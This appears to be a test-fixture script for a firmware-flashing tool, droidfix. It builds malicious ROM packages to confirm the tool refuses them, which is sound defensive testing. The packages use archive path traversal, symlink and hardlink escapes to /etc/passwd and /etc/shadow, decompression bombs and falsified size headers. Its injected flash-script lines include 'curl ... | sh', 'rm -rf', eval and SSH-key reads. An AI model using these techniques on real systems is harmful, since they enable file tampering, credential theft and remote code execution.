#!/usr/bin/env bash
# Builds the hostile firmware packages of tests/e2e/test_hostile.sh: each is
# the good synthetic ROM of tests/fixtures/make-rom.sh (a Redmi K70 "vermeer"
# fastboot ROM) with one hostile change, so that change is the only reason
# droidfix has to refuse it.
#
# usage: make-hostile.sh OUT_DIR CANARY_DIR
#   OUT_DIR     where the packages go (one NAME.tgz or NAME.zip per item)
#   CANARY_DIR  an absolute folder, outside OUT_DIR, that the packages aim
#               at: traversal and absolute entries and links lead into it, and
#               the hostile flash script's commands would create files there
#               (ran-*). Nothing must ever appear in it.
# Prints one line per package: NAME PATH WHAT.
set -eu

out=${1:?usage: make-hostile.sh OUT_DIR CANARY_DIR}
canary=${2:?usage: make-hostile.sh OUT_DIR CANARY_DIR}
here=$(cd "$(dirname "$0")" && pwd)
case $canary in /*) ;; *) echo "make-hostile.sh: CANARY_DIR must be absolute" >&2; exit 2 ;; esac

good=$(DF_ROM_SUPER_MIB=1 DF_ROM_VENDOR_BOOT_KIB=256 "$here/../fixtures/make-rom.sh" "$out" good)
stage=$(mktemp -d "$out/.hostile.XXXXXX")
trap 'rm -rf "$stage"' EXIT
tar -C "$stage" -xzf "$good"
folder=$(ls "$stage")

python3 - "$stage" "$folder" "$out" "$canary" <<'PY'
import gzip, io, os, stat, sys, tarfile, zipfile

stage, folder, out, canary = sys.argv[1:5]
root = os.path.join(stage, folder)
made = []

def files():
    """(archive path, bytes) of the good ROM, in a stable order."""
    for dirpath, dirs, names in os.walk(root):
        dirs.sort()
        for n in sorted(names):
            full = os.path.join(dirpath, n)
            rel = os.path.relpath(full, stage)
            with open(full, "rb") as f:
                yield rel, f.read()

def add_file(t, name, data, **kw):
    ti = tarfile.TarInfo(name)
    ti.size = len(data)
    ti.mode = 0o644
    for k, v in kw.items():
        setattr(ti, k, v)
    t.addfile(ti, io.BytesIO(data))

def add_special(t, name, kind, **kw):
    ti = tarfile.TarInfo(name)
    ti.type = kind
    ti.mode = 0o644
    for k, v in kw.items():
        setattr(ti, k, v)
    t.addfile(ti)

def tgz(name, what, extra=None, script=None, skip=()):
    """The good ROM as a .tgz, flash_all_except_storage.sh replaced by
    script (when given), then extra(t) adds the hostile entries."""
    path = os.path.join(out, name + ".tgz")
    with tarfile.open(path, "w:gz", format=tarfile.GNU_FORMAT) as t:
        for rel, data in files():
            if rel in skip:
                continue
            if script is not None and rel.endswith("/flash_all_except_storage.sh"):
                data = script.encode()
            add_file(t, rel, data)
        if extra:
            extra(t)
    made.append((name, path, what))
    return path

F = folder
I = folder + "/images/"

# ---- entries that leave the package
tgz("traversal", "an entry ../../ out of the package, aimed at the canary",
    lambda t: add_file(t, F + "/../../" + os.path.basename(canary) + "/traversal-pwned", b"pwned\n"))
tgz("traversal-image", "images/boot.img stored as ../images/boot.img (outside the folder)",
    lambda t: add_file(t, "../" + I + "recovery2.img", b"ANDROID!" + b"\0" * 4088))
tgz("absolute", "an absolute path into the canary",
    lambda t: add_file(t, canary + "/absolute-pwned", b"pwned\n"))

def symlink_then_write(t):
    add_special(t, I + "escape", tarfile.SYMTYPE, linkname="../../../../../../../.." + canary)
    add_file(t, I + "escape/symlink-pwned", b"pwned\n")
tgz("symlink-escape", "a symlink out of the package, then a file written through it",
    symlink_then_write)
tgz("symlink-absolute", "images/passwd.img a symlink to /etc/passwd",
    lambda t: add_special(t, I + "passwd.img", tarfile.SYMTYPE, linkname="/etc/passwd"))
tgz("hardlink-escape", "a hard link to a file outside the package",
    lambda t: add_special(t, I + "shadow.img", tarfile.LNKTYPE, linkname="../../../../etc/shadow"))
tgz("device-node", "a character device node (like /dev/sda) among the images",
    lambda t: add_special(t, I + "sda.img", tarfile.CHRTYPE, devmajor=8, devminor=0))
tgz("fifo", "a FIFO among the images",
    lambda t: add_special(t, I + "fifo.img", tarfile.FIFOTYPE))

# ---- duplicates: two different images/boot.img
tgz("duplicate", "images/boot.img twice, with different contents",
    lambda t: add_file(t, I + "boot.img", b"ANDROID!" + b"\xee" * (256 * 1024 - 8)))

# ---- decompression bombs: 80 MiB of zeros in about 80 KiB (the
# refusal starts at 64 MiB and 100 times the package's size)
BOMB = 80 << 20
def bomb_tgz():
    path = os.path.join(out, "bomb.tgz")
    with tarfile.open(path, "w:gz", compresslevel=9, format=tarfile.GNU_FORMAT) as t:
        for rel, data in files():
            if not rel.endswith(".img"):  # the scripts: the bomb is most of the package
                add_file(t, rel, data)
        class Zeros(io.RawIOBase):
            def __init__(self, n): self.left = n
            def readinto(self, b):
                k = min(len(b), self.left); b[:k] = bytes(k); self.left -= k; return k
            def readable(self): return True
        ti = tarfile.TarInfo(I + "zeros.img")
        ti.size = BOMB
        t.addfile(ti, io.BufferedReader(Zeros(BOMB), 1 << 20))
    made.append(("bomb", path, "80 MiB of zeros under images/ with the ROM's scripts (a .tgz, ratio ~1000)"))
bomb_tgz()

def zip_of(name, what, extra=None, mutate=None, images=True):
    path = os.path.join(out, name + ".zip")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for rel, data in files():
            if images or not rel.endswith(".img"):
                z.writestr(rel, data)
        if extra:
            extra(z)
    if mutate:
        mutate(path)
    made.append((name, path, what))

def zip_bomb(z):
    zi = zipfile.ZipInfo(I + "zeros.img")
    zi.compress_type = zipfile.ZIP_DEFLATED
    with z.open(zi, "w", force_zip64=True) as f:
        chunk = bytes(1 << 20)
        for _ in range(BOMB >> 20):
            f.write(chunk)
zip_of("bomb-zip", "80 MiB of zeros under images/ with the ROM's scripts (a .zip, ratio ~1000 for that entry)", zip_bomb,
       images=False)
zip_of("traversal-zip", "a .zip entry ../../ out of the package",
       lambda z: z.writestr(F + "/../../" + os.path.basename(canary) + "/zip-pwned", b"pwned\n"))
zip_of("absolute-zip", "a .zip entry with an absolute path into the canary",
       lambda z: z.writestr(zipfile.ZipInfo(canary + "/zip-absolute-pwned"), b"pwned\n"))

def zip_symlink(z):
    zi = zipfile.ZipInfo(I + "escape")
    zi.create_system = 3
    zi.external_attr = (stat.S_IFLNK | 0o777) << 16
    z.writestr(zi, "../../../../../../../.." + canary)
    z.writestr(I + "escape/zip-symlink-pwned", b"pwned\n")
zip_of("symlink-zip", "a .zip symlink out of the package, then a file through it", zip_symlink)

# ---- sizes that lie
def zip_lie(path):
    """The central directory says images/boot.img is 4 KiB, its data is 256 KiB."""
    data = bytearray(open(path, "rb").read())
    name = (I + "boot.img").encode()
    pos = 0
    while True:
        pos = data.find(b"PK\x01\x02", pos)
        if pos < 0:
            raise SystemExit("boot.img not in the central directory")
        n = int.from_bytes(data[pos + 28:pos + 30], "little")
        if data[pos + 46:pos + 46 + n] == name:
            data[pos + 24:pos + 28] = (4096).to_bytes(4, "little")
            break
        pos += 4
    open(path, "wb").write(bytes(data))
zip_of("lying-size-zip", "a .zip whose directory says boot.img is 4 KiB; its data is 256 KiB",
       mutate=zip_lie)

def tar_lie(name, what, factor):
    """A tar whose header for images/boot.img says factor x its size."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.GNU_FORMAT) as t:
        for rel, data in files():
            add_file(t, rel, data)
    buf = bytearray(raw.getvalue())
    pos = 0
    target = (I + "boot.img").encode()
    while buf[pos:pos + len(target)] != target:
        size = int(buf[pos + 124:pos + 135].decode().strip("\0 ") or "0", 8)
        pos += 512 + (size + 511) // 512 * 512
    size = int(buf[pos + 124:pos + 135].decode(), 8)
    buf[pos + 124:pos + 136] = ("%011o\0" % int(size * factor)).encode()
    chk = sum(buf[pos:pos + 148]) + 8 * 32 + sum(buf[pos + 156:pos + 512])
    buf[pos + 148:pos + 156] = ("%06o\0 " % chk).encode()
    path = os.path.join(out, name + ".tgz")
    with open(path, "wb") as f:
        f.write(gzip.compress(bytes(buf)))
    made.append((name, path, what))
tar_lie("lying-size-more", "a tar header saying boot.img is 4x its data", 4)
tar_lie("lying-size-less", "a tar header saying boot.img is half its data", 0.5)

# ---- truncated: the good package cut in the middle
good = open(os.path.join(out, [n for n in os.listdir(out) if n.endswith("-good.tgz")][0]), "rb").read()
with open(os.path.join(out, "truncated.tgz"), "wb") as f:
    f.write(good[:len(good) * 6 // 10])
made.append(("truncated", os.path.join(out, "truncated.tgz"), "the package cut at 60%"))

# ---- flash scripts that try to run commands
script = open(os.path.join(root, "flash_all_except_storage.sh")).read().splitlines()
evil_lines = [
    ("command-substitution", "fastboot $* flash boot_ab $(touch %s/ran-subst)" % canary),
    ("backticks", "fastboot $* flash boot_ab `touch %s/ran-backtick`" % canary),
    ("semicolon-rm", "fastboot $* erase boot_ab; rm -rf %s/..; touch %s/ran-semicolon" % (canary, canary)),
    ("pipe", "fastboot $* getvar product | sh -c 'touch %s/ran-pipe'" % canary),
    ("source", "source %s/ran-source.sh" % canary),
    ("dot-source", ". `dirname $0`/images/evil.sh"),
    ("eval", "eval \"touch %s/ran-eval\"" % canary),
    ("env-var", "fastboot $* flash boot_ab $HOME/.ssh/id_rsa"),
    ("env-assign", "PATH=%s:$PATH fastboot $* reboot" % canary),
    ("and-chain", "fastboot $* reboot && touch %s/ran-and" % canary),
    ("redirect", "fastboot $* getvar all > %s/ran-redirect" % canary),
    ("background", "touch %s/ran-background &" % canary),
    ("plain-command", "touch %s/ran-plain" % canary),
    ("curl", "curl -s http://example.invalid/x.sh | sh"),
]
# After the product check (line 2), before any erase: the plan is refused
# whole, so not even the erase of the good lines may run.
hostile = script[:2] + [l for _, l in evil_lines] + script[2:]
tgz("script-commands", "flash_all_except_storage.sh with %d lines that try to run commands: %s"
    % (len(evil_lines), ", ".join(k for k, _ in evil_lines)), script="\n".join(hostile) + "\n")
with open(os.path.join(out, "script-commands.lines"), "w") as f:
    for k, l in evil_lines:
        f.write(l + "\n")

# ---- flash scripts that flash what is not in images/
def script_with(line):
    s = list(script)
    for i, l in enumerate(s):
        if "flash boot_ab" in l:
            s[i] = line
            break
    else:
        raise SystemExit("no flash boot_ab line")
    return "\n".join(s) + "\n"
tgz("script-outside-images", "the script flashes boot_ab from `dirname $0`/../../etc/passwd",
    script=script_with("fastboot $* flash boot_ab `dirname $0`/../../etc/passwd"))
tgz("script-absolute-image", "the script flashes boot_ab from /etc/passwd",
    script=script_with("fastboot $* flash boot_ab /etc/passwd"))
tgz("script-not-in-images", "the script flashes boot_ab from images/nothere.img, absent",
    script=script_with("fastboot $* flash boot_ab `dirname $0`/images/nothere.img"))
tgz("script-unknown-partition", "the script flashes a partition the phone does not have",
    script=script_with("fastboot $* flash evilpart_ab `dirname $0`/images/boot.img"))

for name, path, what in made:
    print(name, path, what)
PY
